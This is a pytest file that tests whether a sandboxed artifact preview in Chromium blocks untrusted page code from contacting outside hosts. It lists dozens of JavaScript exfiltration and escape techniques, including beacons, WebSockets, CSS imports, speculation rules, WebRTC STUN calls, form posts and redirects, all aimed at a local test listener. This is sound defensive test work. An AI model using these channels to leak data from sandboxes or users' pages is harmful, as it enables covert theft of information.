"""What a stranger's component or page tries against whoever looks at it, in a real Chromium: nothing of it succeeds."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import pytest

from tests.support.browser import opened
from tests.support.previews import Previews, previews


class Listener:
    """Listens for connections and datagrams on loopback, as whoever a stranger's code would tell."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._news = threading.Condition()
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._threads = [threading.Thread(target=take, daemon=True) for take in (self._connections, self._datagrams)]
        for thread in self._threads:
            thread.start()

    def _connections(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(60)
            line = connection.recv(2000).decode("latin-1").split("\r\n")[0]
            path = line.split()[1].strip("/") if line else "a connection"
            self._hear(path)
            page = b"<body></body>" if path == "start" else b""
            head = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: %d\r\n\r\n"
            connection.sendall(head % len(page) + page)

    def _datagrams(self) -> None:
        with suppress(OSError):
            while self._udp.recv(200):
                self._hear("a datagram")

    def _hear(self, what: str) -> None:
        with self._news:
            self.heard.append(what)
            self._news.notify_all()

    def until(self, said: Callable[[], bool]) -> bool:
        """Wait, bounded, until what was heard is so; whether it is."""
        with self._news:
            return self._news.wait_for(said, 60)

    def close(self) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"", ("127.0.0.1", self.port))
        for thread in self._threads:
            thread.join(60)
        self._udp.close()


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Previews]:
    with previews(tmp_path_factory.mktemp("sandbox")) as served:
        yield served


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    try:
        yield listening
    finally:
        listening.close()


AHEAD = {"a connection"}
"""A browser may open a connection ahead of the policy's say, and has nothing to send over it."""
QUIET = {
    "fetch": "fetch(there)",
    "request": "const asked = new XMLHttpRequest(); asked.open('POST', there); asked.send('secret')",
    "socket": "new WebSocket(there.replace('http', 'ws'))",
    "events": "new EventSource(there)",
    "beacon": "navigator.sendBeacon(there, 'secret')",
    "image": "new Image().src = there",
    "style": "document.body.style.background = `url(${there})`",
    "sheet": "put(`<link rel=stylesheet href=${there}>`)",
    "import": "put(`<style>@import '${there}'<\\/style>`)",
    "font": "new FontFace('F', `url(${there})`).load()",
    "script": "const s = document.createElement('script'); s.src = there; document.head.append(s)",
    "module": "(0, eval)(`import('${there}')`)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${there}')`])))",
    "frame": "put(`<iframe src=${there}></iframe>`)",
    "text": "put(`<iframe srcdoc=\"<img src=${there}><script>fetch('${there}')<\\/script>\"></iframe>`)",
    "object": "put(`<object data=${there}></object>`)",
    "embed": "put(`<embed src=${there}>`)",
    "video": "put(`<video autoplay src=${there}></video>`)",
    "track": "put(`<video crossorigin><track default src=${there}></video>`)",
    "prefetch": "put(`<link rel=prefetch href=${there}>`)",
    "preload": "put(`<link rel=preload as=image href=${there}>`)",
    "preconnect": "put(`<link rel=preconnect href=${there}>`)",
    "speculation": (
        "const s = document.createElement('script'); s.type = 'speculationrules'; "
        "s.textContent = JSON.stringify({prefetch: [{urls: [there], eagerness: 'immediate'}]}); document.head.append(s)"
    ),
    "manifest": "put(`<link rel=manifest href=${there}>`)",
    "icon": "put(`<link rel=icon href=${there}>`)",
    "ping": "put(`<a id=p href=# ping=${there}>p</a>`); document.getElementById('p').click()",
    "call": "call(window)",
    "call of a frame": "const f = document.createElement('iframe'); document.body.append(f); call(f.contentWindow)",
    "call of a text": ("put(`<iframe srcdoc=\"<script>(${call})(window, '${there}')<\\/script>\"></iframe>`)"),
}
"""Ways to tell somebody something without being seen."""

LEAVING = {
    "form": "put(`<form method=post action=${there}><input name=q></form>`); document.forms[0].submit()",
    "button": "put(`<form action=${there}><button id=b></button></form>`); document.getElementById('b').click()",
    "link": "put(`<a id=a href=${there}>a</a>`); document.getElementById('a').click()",
    "window": "window.open(there)",
    "new tab": "put(`<a id=a target=_blank href=${there}>a</a>`); document.getElementById('a').click()",
    "above": "put(`<a id=a target=_top href=${there}>a</a>`); document.getElementById('a').click()",
    "top": "top.location.href = there",
    "parent": "parent.location.replace(there)",
    "self": "location.href = there",
    "refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${there}'>`)",
    "data": "location.href = `data:text/html,<script>fetch('${there}')<\\/script>`",
}
"""Ways to go to somebody, each of which may end the frame."""

_KIT = """
    const put = html => document.body.insertAdjacentHTML('beforeend', html);
    const call = (from, at = there) => {
        const c = new from.RTCPeerConnection({iceServers: [{urls: at.replace('http://', 'stun:').split('/')[0]}]});
        c.createDataChannel('x');
        c.createOffer().then(o => c.setLocalDescription(o));
    };
"""


def trying(ways: dict[str, str], port: int) -> str:
    """A script that tries each way, whatever becomes of the others, and says in the end that it did."""
    tries = [
        f"try {{ const there = 'http://127.0.0.1:{port}/{name.replace(' ', '-')}'; {_KIT} {code} }} catch {{}}"
        for name, code in ways.items()
    ]
    return f"setTimeout(() => console.log('did'), 1000); {' '.join(tries)}"


def spy(workspace: Previews, kind: str, script: str) -> str:
    """An artifact that runs `script` when it is shown."""
    if kind == "html":
        return workspace.put("spy.html", f"<body><p>here</p><script>{script}</script>")
    source = f"""
        import {{ useEffect }} from "react";
        export default function Spy() {{
          useEffect(() => {{ {script} }}, []);
          return <p>here</p>;
        }}
    """
    return workspace.put("spy.tsx", source)


def watch(page: Any, workspace: Previews, identity: str) -> None:
    """Show the artifact until its code has had its time, or was stopped."""
    page.goto(workspace.page(identity))
    page.get_by_role("tab", name="Console").click()
    said = page.get_by_role("log").get_by_text("did", exact=True)
    said.or_(page.locator("[data-ended]")).first.wait_for()


def test_the_listener_hears_whoever_is_not_held(browser: Any, listener: Listener) -> None:
    """The same code in a page without walls: what follows would notice."""
    with opened(browser) as page:
        page.goto(f"http://127.0.0.1:{listener.port}/start")
        with page.expect_console_message(lambda message: message.text == "did"):
            page.evaluate(trying(QUIET, listener.port))
        # What a browser without a window, or of this edition, never asks for.
        never = {"icon", "manifest", "speculation", "preconnect", "call", "call-of-a-frame", "call-of-a-text"}
        told = {name.replace(" ", "-") for name in QUIET} - never
        assert listener.until(lambda: told <= set(listener.heard)), told - set(listener.heard)
        assert listener.until(lambda: listener.heard.count("a datagram") >= 3)


@pytest.mark.parametrize("kind", ["tsx", "html"])
def test_nobody_is_told_anything(browser: Any, workspace: Previews, listener: Listener, kind: str) -> None:
    with opened(browser) as page:
        watch(page, workspace, spy(workspace, kind, trying(QUIET, listener.port)))
    assert set(listener.heard) <= AHEAD


@pytest.mark.parametrize("way", LEAVING)
@pytest.mark.parametrize("kind", ["tsx", "html"])
def test_nobody_goes_anywhere(browser: Any, workspace: Previews, listener: Listener, kind: str, way: str) -> None:
    with opened(browser) as page:
        identity = spy(workspace, kind, trying({way: LEAVING[way]}, listener.port))
        watch(page, workspace, identity)
        assert page.url == workspace.page(identity)
        assert len(page.context.pages) == 1
    assert set(listener.heard) <= AHEAD
